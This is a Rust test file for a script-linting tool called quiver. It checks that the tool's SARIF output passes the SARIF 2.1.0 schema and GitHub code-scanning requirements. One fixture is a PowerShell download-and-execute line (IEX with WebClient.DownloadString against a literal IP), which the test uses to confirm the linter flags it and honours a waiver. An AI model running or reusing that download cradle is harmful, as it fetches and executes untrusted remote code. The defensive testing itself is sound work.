//! `quiver lint --format sarif` against SARIF 2.1.0 itself.
//!
//! Two independent checks: the official JSON schema (`fixtures/lint/sarif-schema-2.1.0.json`,
//! the OASIS schema as shipped in the `serde-sarif` 0.8.0 crate package; its `$id` names the
//! OASIS source) with `additionalProperties: false` catching any misspelt property, and
//! deserialization into `serde-sarif`'s generated types. On top, what GitHub code
//! scanning needs: every result has a repository-relative `uri` with forward slashes and a
//! `startLine` ≥ 1, `ruleIndex` points at the rule with that id, waived findings carry an
//! `external` suppression with the reason.

#[path = "lint_support.rs"]
mod support;

use serde_json::Value;
use support::{Repo, utf16le};

fn schema_check(sarif: &Value) {
    let path = quiver_tests::workspace_root().join("tests/fixtures/lint/sarif-schema-2.1.0.json");
    let mut schema: Value = serde_json::from_str(&std::fs::read_to_string(path).unwrap()).unwrap();
    // The 2.1.0 schema's `language` patterns have a stray `]` (a known defect of the
    // published file) that a strict `format: regex` check of the schema itself rejects;
    // use the pattern they meant. Nothing quiver writes has a `language`.
    let fixed = fix_language_patterns(&mut schema);
    assert!(
        fixed >= 1,
        "the schema changed; revisit fix_language_patterns"
    );
    let validator = jsonschema::draft7::options()
        .should_validate_formats(true)
        .build(&schema)
        .expect("schema compiles");
    let errors: Vec<String> = validator
        .iter_errors(sarif)
        .map(|e| format!("{} at {}", e, e.instance_path()))
        .collect();
    assert!(errors.is_empty(), "SARIF schema violations: {errors:#?}");
    let typed: serde_sarif::sarif::Sarif =
        serde_json::from_value(sarif.clone()).expect("deserializes as serde-sarif types");
    assert_eq!(typed.runs.len(), 1);
}

fn fix_language_patterns(v: &mut Value) -> usize {
    const BAD: &str = "^[a-zA-Z]{2}|^[a-zA-Z]{2}-[a-zA-Z]{2}]?$";
    match v {
        Value::String(s) if s == BAD => {
            *s = "^[a-zA-Z]{2}(-[a-zA-Z]{2})?$".to_string();
            1
        }
        Value::Array(items) => items.iter_mut().map(fix_language_patterns).sum(),
        Value::Object(map) => map.values_mut().map(fix_language_patterns).sum(),
        _ => 0,
    }
}

fn github_check(sarif: &Value) -> &Vec<Value> {
    assert_eq!(sarif["version"], "2.1.0");
    assert!(
        sarif["$schema"]
            .as_str()
            .is_some_and(|s| s.contains("sarif"))
    );
    let run = &sarif["runs"][0];
    assert_eq!(run["tool"]["driver"]["name"], "quiver");
    let rules = run["tool"]["driver"]["rules"].as_array().expect("rules");
    let results = run["results"].as_array().expect("results");
    for r in results {
        let loc = &r["locations"][0]["physicalLocation"];
        let uri = loc["artifactLocation"]["uri"].as_str().expect("uri");
        assert!(
            !uri.is_empty() && !uri.starts_with('/') && !uri.contains('\\'),
            "{uri}"
        );
        let line = loc["region"]["startLine"].as_u64().expect("startLine");
        assert!(line >= 1, "{r}");
        if let Some(col) = loc["region"]["startColumn"].as_u64() {
            assert!(col >= 1, "{r}");
        }
        let i = r["ruleIndex"].as_u64().expect("ruleIndex") as usize;
        assert_eq!(rules[i]["id"], r["ruleId"], "ruleIndex points at the rule");
        assert!(["error", "warning", "note"].contains(&r["level"].as_str().unwrap()));
        assert!(!r["message"]["text"].as_str().unwrap().is_empty());
    }
    results
}

fn sarif_of(repo: &Repo) -> (i32, Value) {
    let run = repo.lint(&["--format", "sarif"]);
    let v: Value = serde_json::from_str(&run.stdout)
        .unwrap_or_else(|e| panic!("sarif: {e}\n{}\n{}", run.stdout, run.stderr));
    (run.code, v)
}

#[test]
fn findings_waivers_and_file_level_results_are_valid_sarif() {
    let repo = Repo::new();
    let stage =
        "# stage two\nIEX (New-Object Net.WebClient).DownloadString('http://203.0.113.7/a.ps1')\n";
    repo.script("stage", "windows", "powershell", "stage.ps1", utf16le(stage))
        .script("waived", "windows", "powershell", "stage.ps1", stage)
        .script("crlf", "linux", "sh", "run.sh", "#!/bin/sh\r\nid\r\n")
        .file("spaced name/script.toml", support::manifest("spaced", "linux", "bash", "run.sh"))
        .file("spaced name/run.sh", "#!/bin/bash\r\nuptime\r\n")
        .policy(
            "waivers.toml",
            "[[waiver]]\nscript = \"waived\"\nrule = \"download-exec.powershell\"\nreason = \"pulls the collector from the internal mirror, pinned by hash\"\nby = \"lead\"\n",
        );
    // A file-level finding: an executable without a signature.
    repo.file(
        "tool/script.toml",
        support::manifest("tool", "linux", "executable", "collector"),
    )
    .file("tool/collector", b"\x7fELF\x02\x01\x01\0binary");
    let (code, sarif) = sarif_of(&repo);
    assert_eq!(code, 1);
    schema_check(&sarif);
    let results = github_check(&sarif);

    let stage = results
        .iter()
        .find(|r| {
            r["ruleId"] == "download-exec.powershell"
                && r["locations"][0]["physicalLocation"]["artifactLocation"]["uri"]
                    == "library/stage/stage.ps1"
        })
        .expect("the UTF-16 finding");
    assert_eq!(stage["level"], "error");
    assert_eq!(
        stage["locations"][0]["physicalLocation"]["region"]["startLine"],
        2
    );
    assert!(stage.get("suppressions").is_none());

    let waived = results
        .iter()
        .find(|r| {
            r["locations"][0]["physicalLocation"]["artifactLocation"]["uri"]
                == "library/waived/stage.ps1"
        })
        .expect("the waived finding");
    assert_eq!(waived["suppressions"][0]["kind"], "external");
    let spaced = results
        .iter()
        .find(|r| r["ruleId"] == "encoding.crlf" && r["properties"]["script"] == "spaced")
        .expect("the finding in a folder with a space");
    assert_eq!(
        spaced["locations"][0]["physicalLocation"]["artifactLocation"]["uri"],
        "library/spaced%20name/run.sh"
    );
    assert!(
        waived["suppressions"][0]["justification"]
            .as_str()
            .unwrap()
            .contains("internal mirror")
    );

    let unsigned = results
        .iter()
        .find(|r| r["ruleId"] == "signature.missing")
        .expect("the file-level finding");
    assert_eq!(
        unsigned["locations"][0]["physicalLocation"]["region"]["startLine"],
        1
    );
}

#[test]
fn the_schema_check_catches_a_misspelt_property() {
    // Guards the guard: a check that accepts anything would make the tests above moot.
    let repo = Repo::new();
    repo.script("crlf", "linux", "sh", "run.sh", "#!/bin/sh\r\nid\r\n");
    let (_, mut sarif) = sarif_of(&repo);
    schema_check(&sarif);
    let result = sarif["runs"][0]["results"][0]
        .as_object_mut()
        .expect("one result");
    let id = result.remove("ruleId").expect("ruleId");
    result.insert("ruleID".into(), id);
    let outcome = std::panic::catch_unwind(|| schema_check(&sarif));
    assert!(outcome.is_err(), "`ruleID` must be refused by the schema");
}

#[test]
fn policy_errors_are_valid_sarif_results() {
    let repo = Repo::new();
    repo.policy(
        "members.toml",
        &support::MEMBERS.replace("roles = [\"lead\"]", "roles = [\"lead\", \"resopnder\"]"),
    );
    let (code, sarif) = sarif_of(&repo);
    assert_eq!(code, 1);
    schema_check(&sarif);
    let results = github_check(&sarif);
    assert_eq!(results[0]["ruleId"], "policy.invalid");
    assert_eq!(
        results[0]["locations"][0]["physicalLocation"]["artifactLocation"]["uri"],
        "policies/members.toml"
    );
    assert_eq!(
        results[0]["locations"][0]["physicalLocation"]["region"]["startLine"],
        6
    );
}

#[test]
fn example_library_sarif_is_valid_and_repository_relative() {
    let root = quiver_tests::workspace_root();
    let out = std::process::Command::new(quiver_tests::bin("quiver"))
        .current_dir(&root)
        .args(["lint", "example-library", "--format", "sarif"])
        .output()
        .unwrap();
    let sarif: Value = serde_json::from_slice(&out.stdout).expect("sarif");
    schema_check(&sarif);
    let results = github_check(&sarif);
    for r in results {
        let uri = r["locations"][0]["physicalLocation"]["artifactLocation"]["uri"]
            .as_str()
            .unwrap();
        assert!(uri.starts_with("example-library/"), "{uri}");
    }
    // Every built-in check and every content rule is described.
    let rules = sarif["runs"][0]["tool"]["driver"]["rules"]
        .as_array()
        .unwrap();
    for id in [
        "path.symlink",
        "signature.missing",
        "download-exec.powershell",
    ] {
        assert!(rules.iter().any(|r| r["id"] == id), "rule {id} described");
    }
}

#[test]
fn no_syntax_is_noted_in_valid_sarif() {
    let repo = Repo::new();
    repo.script(
        "broken",
        "windows",
        "powershell",
        "run.ps1",
        "if ($true) {\n    Get-Date\n",
    );
    let run = repo.lint(&["--format", "sarif", "--no-syntax"]);
    let sarif: Value = serde_json::from_str(&run.stdout).expect("sarif json");
    schema_check(&sarif);
    github_check(&sarif);
    let invocation = &sarif["runs"][0]["invocations"][0];
    let note = invocation["toolExecutionNotifications"][0]["message"]["text"]
        .as_str()
        .unwrap_or_default();
    assert!(note.contains("syntax not checked"), "{invocation}");
    assert!(sarif["runs"][0]["results"].as_array().unwrap().is_empty());
    // Without the flag there is no such note, and the parse error is a result.
    let run = repo.lint(&["--format", "sarif"]);
    let sarif: Value = serde_json::from_str(&run.stdout).expect("sarif json");
    assert!(sarif["runs"][0]["invocations"][0]["toolExecutionNotifications"].is_null());
    assert_eq!(
        sarif["runs"][0]["results"][0]["ruleId"],
        "syntax.powershell"
    );
}
